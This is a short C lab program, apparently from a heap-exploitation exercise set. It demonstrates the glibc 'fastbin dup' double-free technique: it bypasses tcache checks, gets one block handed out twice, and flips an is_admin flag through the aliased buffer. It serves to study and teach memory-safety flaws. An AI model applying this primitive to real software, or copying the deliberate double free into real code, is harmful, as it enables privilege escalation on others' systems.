/* Double free turned into two owners of one block ("fastbin dup"). glibc's tcache notices a
 * block freed twice into it, so the attacker first fills the tcache bin and frees a, b, a:
 * the fastbin only compares with its head. Two later allocations then return the same block:
 * a permissions object and an attacker-filled buffer share memory. */
#include "lab.h"

struct perms {
    uint64_t uid;
    uint64_t is_admin;
};

int main(void) {
    lab_init();
    void *fill[7];
    for (int i = 0; i < 7; i++) fill[i] = malloc(0x18);
    char *a = alloc_typed(0x18, DATA_TYPE(15));
    char *b = alloc_typed(0x18, DATA_TYPE(15));
    for (int i = 0; i < 7; i++) free(fill[i]);
    free(a);
    free(b);
    free(a); /* the bug: an error path frees `a` a second time */
    for (int i = 0; i < 7; i++) fill[i] = malloc(0x18);
    /* Allocate until some block is handed out twice. */
    void *got[8];
    for (int i = 0; i < 8; i++) {
        got[i] = malloc(0x18);
        for (int j = 0; j < i; j++) {
            if (got[j] == got[i]) {
                struct perms *p = got[j];
                p->uid = 1000;
                p->is_admin = 0;
                uint64_t *attacker = got[i];
                attacker[1] = 1; /* the attacker's "buffer" write */
                if (p->is_admin) pwned("two allocations returned one block; the attacker's buffer set is_admin");
            }
        }
    }
    noeffect("no block was handed out twice");
    return 0;
}
